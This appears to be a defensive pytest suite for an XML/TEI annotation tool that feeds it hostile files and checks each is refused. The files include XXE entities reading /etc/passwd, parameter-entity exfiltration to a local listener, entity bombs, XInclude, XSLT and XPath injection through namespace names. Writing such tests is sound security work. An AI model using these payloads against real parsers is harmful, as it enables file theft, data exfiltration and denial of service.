"""Hostile XML: nothing gets in where it does not belong, and no code from a file runs.

Every attack goes through the three doors a file comes in by: the library
(``annotator.files.open_document``), the command line (``annotator validate``
and ``annotator export``) and the window (``MainWindow.open_path``). Each
attack is built around a *valid* Annotator file, so that without the
protection it would load (showing /etc/passwd as article text, say): these
tests fail when a protection is removed (docs/reliability-input.md lists what
was broken on purpose to check that).

What "nothing got in" means is checked by ``Bait``: a secret file whose token
must never appear, /etc/passwd likewise, a local TCP server that must see no
connection, and a marker file that an XSLT would write if one were ever run.
"""

from __future__ import annotations

import codecs
import contextlib
import os
import re
import resource
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from gui_helpers import SAMPLE_TXT, Dialogs, make_window, shift_select
from lxml import etree
from PySide6.QtCore import Qt

from annotator.errors import AnnotatorError, ReadError
from annotator.files import open_document
from annotator.gui.mainwindow import MainWindow
from annotator.model import AnnotatedDocument, Annotation, Annotator, Document, edits
from annotator.tei import TEI_NS, parsing
from annotator.tei.source import TeiSource
from annotator.tei.splice import splice
from annotator.tei.validation import validate_bytes
from annotator.tei.writer import TeiWriter

ROOT = Path(__file__).resolve().parent.parent
PASSWD = Path("/etc/passwd")
# A line /etc/passwd has on every Linux system: it must never show up anywhere.
PASSWD_MARK = "root:x:0:0"
SECRET = "SECRET-7f3a9c-never-shown"
XI = "http://www.w3.org/2001/XInclude"
XSL = "http://www.w3.org/1999/XSL/Transform"
EXSL = "http://exslt.org/common"
FIRST = "Pete Hegseth met Boris Pistorius."  # the first paragraph of the victim file
SECOND = "Patriot systems."


def valid_tei() -> str:
    """A valid native file (two paragraphs, one annotation) to wrap attacks around."""
    doc = AnnotatedDocument.create(
        Document.from_paragraphs([FIRST, SECOND]),
        annotators=[Annotator("ann-a", "Ana")],
        annotations=[Annotation("a1", "actor", 0, 12, "ann-a")])
    return TeiWriter(doc).to_bytes().decode()


VALID = valid_tei()
PROLOGUE_END = VALID.index("<TEI ")


def foreign_tei() -> str:
    """A TEI file Annotator did not write (a letter), with annotations it saved into it:
    the stand-off pointers read back by ``annotator.tei.source``."""
    letter = (f'<?xml version="1.0" encoding="UTF-8"?>\n<TEI xmlns="{TEI_NS}">\n'
              "  <teiHeader><fileDesc><titleStmt><title>Brief</title></titleStmt>"
              "<publicationStmt><p>P</p></publicationStmt><sourceDesc><p>S</p></sourceDesc>"
              "</fileDesc></teiHeader>\n  <text><body>\n"
              '    <p xml:id="p1">Viel Glück in Prag am 10. Juli.</p>\n'
              '    <p xml:id="p2">Am 10. Juli regnete es in Prag viel.</p>\n'
              "  </body></text>\n</TEI>\n")
    source = TeiSource.from_bytes(letter.encode(), "letter.xml")
    doc = AnnotatedDocument.create(source.document)
    who = doc.annotator_for("Ana").id
    text = doc.document.text
    spans = [(text.index(word), text.index(word) + len(word), "actor")
             for word in ("Prag", "10", "Juli")]
    edits.add(doc.annotations, spans, who).apply(doc.annotations)
    return splice(source, doc).data.decode()


FOREIGN = foreign_tei()
# The pointers of FOREIGN: "Prag", "10" and "Juli" in the first paragraph.
FOREIGN_TARGETS = ("#string-range(p1,14,4)", "#string-range(p1,22,2)", "#string-range(p1,26,4)")


def in_foreign(old: str, new: str) -> str:
    assert old in FOREIGN
    return FOREIGN.replace(old, new, 1)


def in_utf7(text: str, *markup: str) -> bytes:
    """``text`` declared and encoded as UTF-7, each of ``markup`` written the way UTF-7
    may write it (``<`` as ``+ADw-``), invisible to a scan of the bytes for ASCII."""
    data = text.replace('encoding="UTF-8"', 'encoding="UTF-7"', 1).encode("utf-7")
    for piece in markup:
        hidden = "".join(f"+{codecs.encode(c.encode('utf-16-be'), 'base64').decode()[:3]}-"
                         if c in "<'[" else c for c in piece)
        data = data.replace(piece.encode("utf-7"), hidden.encode("ascii"))
    return data


def with_doctype(doctype: str, first_paragraph: str | None = None) -> str:
    """The valid file with ``doctype`` before the root and the first paragraph replaced."""
    text = VALID[:PROLOGUE_END] + doctype + "\n" + VALID[PROLOGUE_END:]
    if first_paragraph is not None:
        text = text.replace(f">{FIRST}<", f">{first_paragraph}<", 1)
    return text


def in_paragraph(content: str) -> str:
    """The valid file with ``content`` in place of the first paragraph's text."""
    assert f">{FIRST}<" in VALID
    return VALID.replace(f">{FIRST}<", f">{content}<", 1)


# -- the bait ---------------------------------------------------------------------------------

class Listener:
    """A local web server that records every connection (and answers, so nobody waits)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.requests: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.requests.append(conn.recv(4096) or b"(connected)")
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n"
                                 + SECRET.encode())
                except OSError:
                    self.requests.append(b"(connected)")

    def url(self, name: str) -> str:
        return f"http://127.0.0.1:{self.port}/{name}"


@dataclass
class Bait:
    """Things an attack would reach for; ``assert_untouched`` proves none was reached."""

    folder: Path
    listener: Listener

    @property
    def secret(self) -> Path:
        return self.folder / "secret.txt"

    @property
    def marker(self) -> Path:
        """Written by the bait stylesheet if it is ever run."""
        return self.folder / "xslt-was-run.txt"

    @property
    def dtd(self) -> Path:
        return self.folder / "evil.dtd"

    @property
    def xsl(self) -> Path:
        return self.folder / "evil.xsl"

    def write(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(data)
        return path

    def assert_untouched(self, *texts: str) -> None:
        for text in texts:
            assert PASSWD_MARK not in text, "/etc/passwd leaked"
            assert SECRET not in text, "the secret file leaked"
        assert self.listener.requests == [], f"network access: {self.listener.requests}"
        assert not self.marker.exists(), "an XSLT from the file was run"


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.sock.close()


@pytest.fixture
def bait(tmp_path: Path, listener: Listener) -> Bait:
    assert PASSWD_MARK in PASSWD.read_text(), "the test needs a Linux /etc/passwd"
    listener.requests.clear()
    b = Bait(tmp_path, listener)
    b.secret.write_text(SECRET + "\n", encoding="utf-8")
    b.dtd.write_text(f'<!ENTITY secret SYSTEM "file://{b.secret}">\n'
                     f'<!ENTITY greeting "{SECRET}">\n'
                     f'<!ENTITY % remote SYSTEM "{listener.url("from-dtd")}">\n%remote;\n',
                     encoding="utf-8")
    b.xsl.write_text(stylesheet(b.marker), encoding="utf-8")
    return b


def stylesheet(marker: Path) -> str:
    """An XSLT that, if run by lxml, writes ``marker`` and replaces every text by SECRET."""
    return (f'<xsl:stylesheet version="1.0" xmlns:xsl="{XSL}" xmlns:exsl="{EXSL}" '
            'extension-element-prefixes="exsl">'
            '<xsl:template match="/">'
            f'<exsl:document href="{marker.as_uri()}" method="text">ran</exsl:document>'
            f'<xsl:copy-of select="."/></xsl:template>'
            f'<xsl:template match="text()">{SECRET}</xsl:template>'
            '</xsl:stylesheet>')


# -- the attacks ------------------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Bait], str | bytes]
    words: str  # a regular expression the message must match
    line: bool = True  # the message names a line

    def data(self, bait: Bait) -> bytes:
        built = self.build(bait)
        return built.encode("utf-8") if isinstance(built, str) else built

    def file(self, bait: Bait) -> Path:
        return bait.write(f"{self.name}.xml", self.data(bait))


def billion_laughs(_: Bait) -> str:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)]
    return with_doctype(f"<!DOCTYPE TEI [{''.join(entities)}]>", "&lol9;")


def quadratic_blowup(_: Bait) -> str:
    # One 100 KB entity used 100,000 times: 10 GB of text from a 500 KB file.
    return with_doctype(f'<!DOCTYPE TEI [<!ENTITY a "{"x" * 100_000}">]>', "&a;" * 100_000)


def deep_nesting(_: Bait) -> str:
    depth = 100_000
    return in_paragraph("<hi>" * depth + "deep" + "</hi>" * depth)


def nesting_past_the_limit(_: Bait) -> str:
    # Deeper than libxml2's default limit (256), shallower than its XML_PARSE_HUGE one.
    depth = 300
    return in_paragraph('<seg ana="#cat-actor">' * depth + "x" + "</seg>" * depth)


def xinclude(bait: Bait) -> str:
    return in_paragraph(
        f'<xi:include xmlns:xi="{XI}" href="file:///etc/passwd" parse="text"/>'
        f'<xi:include xmlns:xi="{XI}" href="{bait.secret.as_uri()}" parse="text"/>'
        f'<xi:include xmlns:xi="{XI}" href="{bait.listener.url("xinclude")}" parse="text"/>')


def xsl_in_paragraph(bait: Bait) -> str:
    return in_paragraph(stylesheet(bait.marker))


ATTACKS = [
    Attack("xxe-file", lambda b: with_doctype(
        '<!DOCTYPE TEI [<!ENTITY passwd SYSTEM "file:///etc/passwd">'
        f'<!ENTITY secret SYSTEM "{b.secret.as_uri()}">]>', "&passwd;&secret;"),
        r"DOCTYPE that declares entities"),
    Attack("xxe-http", lambda b: with_doctype(
        f'<!DOCTYPE TEI [<!ENTITY web SYSTEM "{b.listener.url("xxe")}">]>', "&web;"),
        r"DOCTYPE that declares entities"),
    Attack("parameter-entities", lambda b: with_doctype(
        f'<!DOCTYPE TEI [<!ENTITY % remote SYSTEM "{b.listener.url("param.dtd")}"> %remote;'
        f'<!ENTITY % file SYSTEM "{b.secret.as_uri()}">'
        f'<!ENTITY % wrap "<!ENTITY leak SYSTEM \'{b.listener.url("?x=%file;")}\'>"> %wrap;]>',
        "&leak;"), r"DOCTYPE that declares entities"),
    # Parameter entities with plain values are read (TEI's module switches); these are
    # not: a reference to one, and a character reference that would make a declaration.
    Attack("parameter-entity-referenced", lambda b: with_doctype(
        '<!DOCTYPE TEI [<!ENTITY % a "INCLUDE"> %a;]>'), r"DOCTYPE that declares entities"),
    Attack("parameter-entity-made-of-character-references", lambda b: with_doctype(
        f'<!DOCTYPE TEI [<!ENTITY % wrap "&#60;!ENTITY leak SYS&#84;EM '
        f"'{b.secret.as_uri()}'>\"> %wrap;]>", "&leak;"), r"DOCTYPE that declares entities"),
    Attack("parameter-entities-beside-a-general-one", lambda b: with_doctype(
        '<!DOCTYPE TEI [<!ENTITY % a "INCLUDE"><!ENTITY lol "lol">]>', "&lol;"),
        r"DOCTYPE that declares entities"),
    # A DOCTYPE that only names a DTD is accepted (TEI files often have one) and the
    # DTD is never read: what only it could define is refused, not left out.
    Attack("external-dtd-local", lambda b: with_doctype(
        f'<!DOCTYPE TEI SYSTEM "{b.dtd}">', "&greeting;&secret;"),
        r"uses &greeting;, which only its DTD defines"),
    Attack("external-dtd-http", lambda b: with_doctype(
        f'<!DOCTYPE TEI PUBLIC "-//Evil//DTD TEI//EN" "{b.listener.url("tei.dtd")}">',
        "Pete &evil; Hegseth"), r"uses &evil;, which only its DTD defines"),
    Attack("external-dtd-entity-in-attribute", lambda b: with_doctype(
        f'<!DOCTYPE TEI SYSTEM "{b.dtd}">').replace('xml:id="a1"', 'xml:id="a1" n="&secret;"'),
        r"uses &secret;, which only its DTD defines"),
    Attack("internal-subset-without-entities", lambda _: with_doctype(
        '<!DOCTYPE TEI SYSTEM "tei.dtd" [<!ATTLIST annotation n CDATA "x">]>'),
        r"DOCTYPE with declarations of its own"),
    Attack("billion-laughs", billion_laughs, r"DOCTYPE that declares entities"),
    Attack("billion-laughs-in-utf-16", lambda b: billion_laughs(b).replace(
        'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
        r"DOCTYPE that declares entities"),
    Attack("doctype-after-a-long-comment", lambda _: with_doctype(  # past the prolog scan:
        "<!-- " + "x" * 1_100_000 + " -->\n<!DOCTYPE TEI>"),  # refused from the tree
        r"DOCTYPE declaration; refused for safety"),
    Attack("quadratic-blowup", quadratic_blowup, r"DOCTYPE that declares entities"),
    Attack("deep-nesting", deep_nesting, r"nested more than 256 levels deep"),
    Attack("nesting-past-the-limit", nesting_past_the_limit, r"nested more than 256 levels"),
    Attack("huge-text-node", lambda _: in_paragraph("x" * 12_000_000),
           r"text without markup is longer than 10 MB"),
    Attack("huge-attribute", lambda _: VALID.replace(
        'xml:id="a1"', f'xml:id="a1" n="{"x" * 12_000_000}"', 1), r"too long"),
    Attack("xinclude", xinclude, r"element include"),
    Attack("xslt-document", lambda b: stylesheet(b.marker), r"not a TEI document"),
    Attack("xslt-in-tei", xsl_in_paragraph, r"element stylesheet"),
    # Found by the long fuzz run: int() refuses over 4,300 digits with a ValueError.
    Attack("huge-offset", lambda _: VALID.replace(
        "#string-range(p1,0,12)", f"#string-range(p1,{'9' * 5000},12)", 1), r"past the end"),
    Attack("huge-length-in-two-ranges", lambda _: VALID.replace(
        "#string-range(p1,0,12)", f"#string-range(p1,0,33) #string-range(p2,0,{'9' * 5000})",
        1), r"past the end"),
    Attack("echoed-attribute", lambda _: VALID.replace(  # a 2.4 MB @target, quoted in
        "#string-range(p1,0,12)",  # messages: the error dialog froze for 10 s or more
        " ".join(["#string-range(p1,0,12)"] * 100_000), 1), r"names (a )?paragraph.* twice"),
    # A TEI file Annotator saved annotations into: its pointers are read by
    # annotator.tei.source, which had neither the reader's guard nor its grammar.
    Attack("foreign-huge-length", lambda _: in_foreign(
        FOREIGN_TARGETS[1], f"#string-range(p1,22,1{'0' * 5000})"),
        r"#string-range\(p1,22,1…\(5,001 digits\)\) is outside the text of its element"),
    Attack("foreign-huge-offset", lambda _: in_foreign(
        FOREIGN_TARGETS[1], f"#string-range(p1,{'9' * 5000},2)"),
        r"#string-range\(p1,9…\(5,000 digits\),2\) is outside the text"),
    Attack("foreign-fullwidth-digits", lambda _: in_foreign(
        FOREIGN_TARGETS[1], "#string-range(p1,２２,2)"), r"not of the form .*ASCII digits"),
    Attack("foreign-arabic-indic-digits", lambda _: in_foreign(
        FOREIGN_TARGETS[1], "#string-range(p1,٢٢,2)"), r"not of the form .*ASCII digits"),
    Attack("foreign-duplicate-id", lambda _: in_foreign('xml:id="p2"', 'xml:id="p1"'),
           r"names the id 'p1', which 2 elements have \(lines \d+ and \d+\)"),
    # Found by the fuzzer's seed of this kind: an annotator nobody declared got in.
    Attack("foreign-resp-of-nobody", lambda _: in_foreign('resp="#ann-ana"', 'resp="#p1"'),
           r"@resp '#p1' does not point to an annotator"),
    # UTF-7 writes "<" as "+ADw-": the DOCTYPE scan must read the bytes as declared.
    Attack("doctype-in-utf-7", lambda b: in_utf7(with_doctype(
        f'<!DOCTYPE TEI [<!ENTITY secret SYSTEM "{b.secret.as_uri()}">]>', "&secret;"),
        "<!DOCTYPE", "<!ENTITY"), r"DOCTYPE that declares entities.*refused unread"),
    Attack("apostrophe-in-namespace-in-utf-7", lambda _: in_utf7(VALID.replace(
        "</listAnnotation>", '<annotation xmlns="urn:a\'b" xml:id="z" ana="#nope"/>'
        "</listAnnotation>", 1), "urn:a'b"), r"namespace name .* apostrophe"),
    Attack("xpath-in-namespace-name", lambda _: VALID.replace(
        "</listAnnotation>",
        # Schematron names this annotation by an XPath quoting its namespace name:
        # unless refused, the apostrophe would let the file run XPath of its own.
        # (With 8 chains 250 deep to walk that expression takes seconds; more, hours.)
        '<annotation xmlns="urn:a\'or(count(//*//*//*//*//*//*//*//*//*//*//*//*)=0)or\'b" '
        'xml:id="z" ana="#nope">' + ("<q>" * 250 + "</q>" * 250) * 8
        + "</annotation></listAnnotation>", 1), r"namespace name .* apostrophe"),
]
BY_NAME = {a.name: a for a in ATTACKS}


def ids(attack: Attack) -> str:
    return attack.name


# -- the library --------------------------------------------------------------------------------

@pytest.mark.parametrize("attack", ATTACKS, ids=ids)
def test_library_refuses_the_attack_fast_with_a_message(attack: Attack, bait: Bait) -> None:
    path = attack.file(bait)
    # Processor time, not the clock: an attack that amplifies spends it here, while a
    # machine busy with other work only stretches the clock.
    began = time.process_time()
    try:
        opened = open_document(path)
    except AnnotatorError as exc:
        error = exc
    else:  # the worst first: did anything leak into the text?
        bait.assert_untouched(opened.document.document.text)
        pytest.fail(f"{attack.name} was opened, not refused")
    elapsed = time.process_time() - began
    assert elapsed < 2, f"took {elapsed:.1f} s of processor time"  # they take milliseconds
    message = str(error)
    assert re.search(attack.words, message), message
    assert message.startswith(f"{path}:")
    if attack.line:
        assert error.problems[0].line is not None, message
    assert len(message) < 5000, "messages are for people: no megabytes of quoted input"
    bait.assert_untouched(message)


def test_sanity_the_victim_file_is_valid_and_the_bait_works(bait: Bait, tmp_path: Path) -> None:
    """Without the attack, the victim file opens; with protections off, the bait is taken.

    This is what makes the refusals above meaningful: the same bytes read by a
    careless parser (entities resolved, DTD loaded, XInclude done) leak the secret.
    """
    opened = open_document(bait.write("victim.xml", VALID.encode()))
    assert opened.document.document.text == f"{FIRST}\n{SECOND}"
    careless = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False)
    leaked = etree.fromstring(BY_NAME["xxe-file"].data(bait), careless)
    assert SECRET in "".join(leaked.itertext())
    assert PASSWD_MARK in "".join(leaked.itertext())
    from_dtd = etree.fromstring(BY_NAME["external-dtd-local"].data(bait), careless)
    assert SECRET in "".join(from_dtd.itertext())
    included = etree.fromstring(BY_NAME["xinclude"].data(bait), careless)
    with pytest.raises(etree.XIncludeError):  # the web one fails, but only after the files
        included.getroottree().xinclude()
    etree.XSLT(etree.parse(str(bait.xsl)))(etree.fromstring(VALID.encode()))
    assert bait.marker.exists()  # the bait stylesheet does write its marker when run
    bait.marker.unlink()


def test_the_parser_itself_refuses_bombs_and_depth(listener: Listener) -> None:
    """The second line of defence: libxml2's own limits (no XML_PARSE_HUGE) hold.

    Even if the DOCTYPE refusal were bypassed, the parser the app uses stops an
    entity bomb, absurd nesting and a 12 MB text node at once.
    """
    bait = Bait(Path("/nonexistent"), listener)
    for name in ("billion-laughs", "quadratic-blowup", "deep-nesting", "huge-text-node"):
        data = BY_NAME[name].data(bait)
        began = time.monotonic()
        with pytest.raises(etree.XMLSyntaxError):
            etree.fromstring(data, parsing._parser())
        assert time.monotonic() - began < 2, name


@pytest.mark.parametrize("collect_ids", [True, False])
def test_the_parser_never_reads_a_dtd_whatever_its_flags(bait: Bait, collect_ids: bool) -> None:
    """Defence in depth under the DOCTYPE rules: the parser's resolver gives nothing
    for a DTD. Without it, libxml2 reads the local DTD a DOCTYPE names when ids are
    not collected (the native reader's fast parse), ``load_dtd=False`` or not: a
    DOCTYPE past the prolog scan (over 1 MB of comment) would have it opened."""
    data = with_doctype(f'<!DOCTYPE TEI SYSTEM "{bait.dtd}">', "&greeting;").encode()

    def undeclared(parser: etree.XMLParser) -> list[str]:
        etree.fromstring(data, parser)
        return [e.message for e in parser.error_log if e.type_name == "WAR_UNDECLARED_ENTITY"]

    assert undeclared(parsing._parser(collect_ids=collect_ids)) == [
        "Entity 'greeting' not defined"]  # the DTD that defines it was not read
    if not collect_ids:  # what the resolver prevents: the same flags without it read it
        bare = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False,
                               collect_ids=False)
        with pytest.raises(etree.XMLSyntaxError, match="from-dtd"):  # its %remote; is next
            undeclared(bare)
    assert bait.listener.requests == []


def test_deep_but_legal_nesting_reads_without_recursion_error(tmp_path: Path) -> None:
    """250 nested inline annotations: under the parser's limit, so the reader must cope."""
    depth = 250
    opening = "".join(f'<rs xml:id="n{i}" type="actor" ana="#cat-actor">' for i in range(depth))
    nested = opening + "x" + "</rs>y" * depth
    data = in_paragraph(nested).replace("<standOff>", "<!--").replace("</standOff>", "-->")
    path = tmp_path / "nested.xml"
    path.write_text(data, encoding="utf-8")
    opened = open_document(path)
    assert len(opened.document.annotations) == depth
    assert opened.document.document.text.startswith("x" + "y" * depth)


@pytest.mark.parametrize("doctype", [
    "<!DOCTYPE TEI>", '<!DOCTYPE TEI SYSTEM "{dtd}">',
    """<!DOCTYPE TEI PUBLIC '-//TEI P5//DTD Main Document Type//EN' '{web}'>""",
])
def test_a_doctype_that_only_names_its_dtd_opens_and_nothing_is_read(bait: Bait,
                                                                     doctype: str) -> None:
    """TEI files often name their DTD: they open as they are, and the DTD (here one
    defining the secret, or one on the web) is never read."""
    declaration = doctype.format(dtd=bait.dtd, web=bait.listener.url("tei.dtd"))
    path = bait.write("named.xml", with_doctype(declaration).encode())
    opened = open_document(path)
    assert opened.document.document.text == f"{FIRST}\n{SECOND}"
    assert [a.id for a in opened.document.annotations] == ["a1"]
    assert validate_bytes(path.read_bytes(), str(path)) == []
    bait.assert_untouched(opened.document.document.text)


def test_a_stylesheet_processing_instruction_is_never_applied(bait: Bait) -> None:
    """``<?xml-stylesheet?>`` is inert: the file opens, as it is, and nothing is fetched or run."""
    data = (f'<?xml-stylesheet type="text/xsl" href="{bait.xsl.as_uri()}"?>\n'
            f'<?xml-stylesheet type="text/xsl" href="{bait.listener.url("style.xsl")}"?>\n')
    path = bait.write("styled.xml", VALID.replace("<TEI ", data + "<TEI ", 1).encode())
    opened = open_document(path)
    assert opened.document.document.text == f"{FIRST}\n{SECOND}"
    assert [a.id for a in opened.document.annotations] == ["a1"]
    bait.assert_untouched(opened.document.document.text)


def test_namespace_names_cannot_smuggle_xpath_into_validation(listener: Listener) -> None:
    """The refusal is what keeps a small file from freezing validation for minutes.

    Schematron names failing elements by XPath that quotes namespace names,
    and ``validate_tree`` evaluates that XPath to find the line. Shown here: the
    XPath such a report hands over really does run the file's own expression;
    and ``validate_bytes`` (the full validation, which never raises) refuses the
    attack file at once instead.
    """
    injected = "urn:a'or(count(//*)=0)or'b"
    location = (f"/*[local-name()='TEI']/*[local-name()='x' and namespace-uri()='{injected}']")
    tree = etree.fromstring(f'<TEI><x xmlns="{injected}"/></TEI>'.encode()).getroottree()
    assert tree.xpath(location)  # the file's "or(count(//*)=0)" is evaluated
    with pytest.raises(ReadError, match="apostrophe"):
        parsing.parse_xml(f'<TEI><x xmlns="{injected}"/></TEI>'.encode(), "x.xml")
    attack = BY_NAME["xpath-in-namespace-name"].build(Bait(Path("/nonexistent"), listener))
    began = time.monotonic()
    problems = validate_bytes(str(attack).encode(), "attack.xml")
    assert time.monotonic() - began < 2
    assert ["apostrophe" in p.message for p in problems] == [True]


# -- the command line ---------------------------------------------------------------------------

def cap_memory(extra: int) -> None:
    """Let this process grow by ``extra`` bytes more, no further: a reader gone wrong on
    /dev/zero gets a MemoryError instead of taking the machine's memory."""
    size = next(int(line.split()[1]) * 1024 for line in Path("/proc/self/status").read_text()
                .splitlines() if line.startswith("VmSize:"))
    resource.setrlimit(resource.RLIMIT_AS, (size + extra, resource.getrlimit(
        resource.RLIMIT_AS)[1]))


@contextlib.contextmanager
def memory_capped(extra: int) -> Iterator[None]:
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    cap_memory(extra)
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


def annotator(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "ANNOTATOR_NAME": "Test Analyst"}
    env.pop("ANNOTATOR_DEBUG", None)
    try:
        return subprocess.run([sys.executable, "-m", "annotator.cli", *args],
                              capture_output=True, text=True, timeout=timeout, cwd=ROOT, env=env,
                              preexec_fn=lambda: cap_memory(4 << 30))
    except subprocess.TimeoutExpired:
        pytest.fail(f"annotator {' '.join(args)} hangs")


def test_cli_validate_refuses_every_attack_with_file_and_line(bait: Bait) -> None:
    paths = {attack.name: attack.file(bait) for attack in ATTACKS}
    result = annotator("validate", *map(str, paths.values()))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    lines = result.stdout.splitlines()
    for attack in ATTACKS:
        path = paths[attack.name]
        pattern = rf"{re.escape(str(path))}:\d+: " if attack.line else rf"{re.escape(str(path))}:"
        mine = [line for line in lines if re.match(pattern, line)]
        assert mine, f"{attack.name}: no 'file:line: message' in {lines}"
        assert any(re.search(attack.words, line) for line in mine), (attack.name, mine)
    assert not any(line.endswith(": valid") for line in lines), lines
    bait.assert_untouched(result.stdout, result.stderr)


@pytest.mark.parametrize("attack", [a for a in ATTACKS if not a.name.startswith("huge")],
                         ids=ids)
def test_cli_export_refuses_the_attack(attack: Attack, bait: Bait) -> None:
    path = attack.file(bait)
    out = bait.folder / "out.txt"
    result = annotator("export", str(path), "--format", "txt", "-o", str(out))
    if result.returncode == 0:
        bait.assert_untouched(out.read_text(encoding="utf-8"))
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert re.search(attack.words, result.stderr), result.stderr
    assert result.stderr.startswith(f"{path}:")
    assert not out.exists()
    bait.assert_untouched(result.stdout, result.stderr)


def test_cli_reads_a_stylesheet_pi_file_without_applying_it(bait: Bait) -> None:
    pi = f'<?xml-stylesheet type="text/xsl" href="{bait.xsl.as_uri()}"?>\n'
    path = bait.write("styled.xml", VALID.replace("<TEI ", pi + "<TEI ", 1).encode())
    result = annotator("export", str(path), "--format", "txt", "-o", "-")
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"{FIRST}\n{SECOND}"
    bait.assert_untouched(result.stdout, result.stderr)


# -- the window --------------------------------------------------------------------------------

@pytest.fixture
def annotated_window(qtbot, dialogs: Dialogs) -> MainWindow:
    """The sample article open, with one annotation made by hand and not saved."""
    window = make_window(qtbot)
    assert window.files.open_path(SAMPLE_TXT, ask=False)
    start = window.annotated.document.text.index("Boris Pistorius")
    shift_select(qtbot, window, start, len("Boris Pistorius"))
    qtbot.keyClick(window.view, Qt.Key.Key_1)
    assert len(window.annotated.annotations) == 1
    return window


def window_state(window: MainWindow) -> tuple:
    return (window.annotated.snapshot(), window.session.source_path, window.session.tei_path,
            window.windowTitle(), window.isWindowModified(), window.view.toPlainText())


@pytest.mark.timeout(60)
@pytest.mark.parametrize("attack", ATTACKS, ids=ids)
def test_window_shows_an_error_and_keeps_the_document(attack: Attack, bait: Bait,
                                                      annotated_window: MainWindow,
                                                      dialogs: Dialogs) -> None:
    window = annotated_window
    before = window_state(window)
    path = attack.file(bait)
    if window.files.open_path(path, ask=False):
        bait.assert_untouched(window.annotated.document.text, window.view.toPlainText())
        pytest.fail(f"{attack.name} was opened, not refused")
    assert len(dialogs.errors) == 1, dialogs.errors
    shown = dialogs.errors[0]
    assert f"Could not open {path.name}" in shown
    assert re.search(attack.words, shown), shown  # the app's own message, not a repr()
    assert len(shown) < 5000
    assert window_state(window) == before
    bait.assert_untouched(shown, window.view.toPlainText())


def test_window_opens_a_stylesheet_pi_file_inert(bait: Bait, annotated_window: MainWindow,
                                                 dialogs: Dialogs) -> None:
    pi = f'<?xml-stylesheet type="text/xsl" href="{bait.xsl.as_uri()}"?>\n'
    path = bait.write("styled.xml", VALID.replace("<TEI ", pi + "<TEI ", 1).encode())
    assert annotated_window.files.open_path(path, ask=False)
    assert dialogs.errors == []
    assert annotated_window.annotated.document.text == f"{FIRST}\n{SECOND}"
    bait.assert_untouched(annotated_window.view.toPlainText())


# -- broken text, and things that are not ordinary files ---------------------------------------

def unreadable_file(tmp_path: Path) -> Path:
    """A real file the OS refuses to read to this process (root reads any ordinary file)."""
    if os.geteuid() != 0:
        path = tmp_path / "unreadable.txt"
        path.write_text("secret")
        path.chmod(0)
        return path
    for candidate in ("/sys/bus/pci/rescan", "/sys/kernel/profiling", "/sys/power/wakeup_count"):
        try:
            with open(candidate, "rb"):
                pass
        except PermissionError:
            return Path(candidate)
        except OSError:
            continue
    pytest.skip("no file here that root cannot read (see tests/test_plaintext.py for 'nobody')")


def special(kind: str, tmp_path: Path) -> Path:
    if kind == "fifo":
        path = tmp_path / "pipe.txt"
        os.mkfifo(path)
        return path
    if kind == "folder":
        return tmp_path
    if kind == "device":
        return Path("/dev/zero")
    if kind == "unreadable":
        return unreadable_file(tmp_path)
    return tmp_path / "no-such-file.txt"


BROKEN_TEXT = {  # name: (bytes, the message)
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", r"binary file"),
    "empty": (b"", r"empty"),
    "blank": (b" \r\n\t\n\xc2\xa0\n", r"empty"),
    "control": (b"ok\nbad \x1b escape", r":2: column 5: control character U\+001B"),
    "broken-utf8": ("Grüße\nKöln \xff".encode().replace(b"\xc3\xbf", b"\xff"),
                    r":2: column 6: invalid UTF-8 byte 0xFF"),
    "surrogate": (b"ok\nnot \xed\xb0\x80 ok", r":2: column 5: a UTF-16 surrogate"),
}
SPECIAL = {"fifo": r"named pipe \(FIFO\)", "folder": r"folder", "device": r"is a device",
           "unreadable": r"permission denied", "missing": r"no such file"}


def broken_inputs() -> list[str]:
    return [*BROKEN_TEXT, *SPECIAL]


def broken_path(name: str, tmp_path: Path) -> tuple[Path, str]:
    if name in BROKEN_TEXT:
        data, words = BROKEN_TEXT[name]
        path = tmp_path / f"{name}.txt"
        path.write_bytes(data)
        return path, words
    return special(name, tmp_path), SPECIAL[name]


@pytest.mark.parametrize("name", broken_inputs())
def test_cli_import_refuses_broken_text_with_one_line(name: str, tmp_path: Path) -> None:
    path, words = broken_path(name, tmp_path)
    out = tmp_path / "out" / "new.xml"
    out.parent.mkdir()
    result = annotator("import", str(path), "-o", str(out), timeout=30)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    assert result.stderr.startswith(f"{path}:"), result.stderr
    assert re.search(words, result.stderr), result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not out.exists()


def test_cli_import_says_what_it_normalised(tmp_path: Path) -> None:
    path = tmp_path / "windows.txt"
    path.write_bytes("Grüße\r\naus Köln\r\n".encode("utf-16-le"))
    out = tmp_path / "new.xml"
    result = annotator("import", str(path), "-o", str(out))
    assert result.returncode == 0, result.stderr
    notes = result.stderr.splitlines()
    assert any("note: read as UTF-16 LE" in line for line in notes), notes
